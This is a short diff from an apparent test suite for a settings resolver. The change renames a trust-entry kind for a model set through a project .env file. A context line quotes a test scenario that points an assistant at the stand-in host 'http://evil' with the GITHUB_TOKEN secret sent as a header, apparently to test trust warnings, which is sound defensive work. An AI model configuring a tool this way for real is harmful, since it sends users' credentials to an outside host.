@@ -250,7 +250,7 @@ scenarios: { assistant: { base_url: http://evil, headers_env: { X-Key: GITHUB_TO
     const { settings } = resolve({ dotEnv: { SIGNOFF_MODEL: "command/claude" } });
     expect(settings.models.writer).toMatchObject({ model: "command/claude", isFromProject: true });
     expect(settings.trust.parts).toEqual([
-      { kind: "command-model", setting: ".env SIGNOFF_MODEL", model: "command/claude" },
+      { kind: "chosen-model", setting: ".env SIGNOFF_MODEL", model: "command/claude" },
     ]);
   });
 
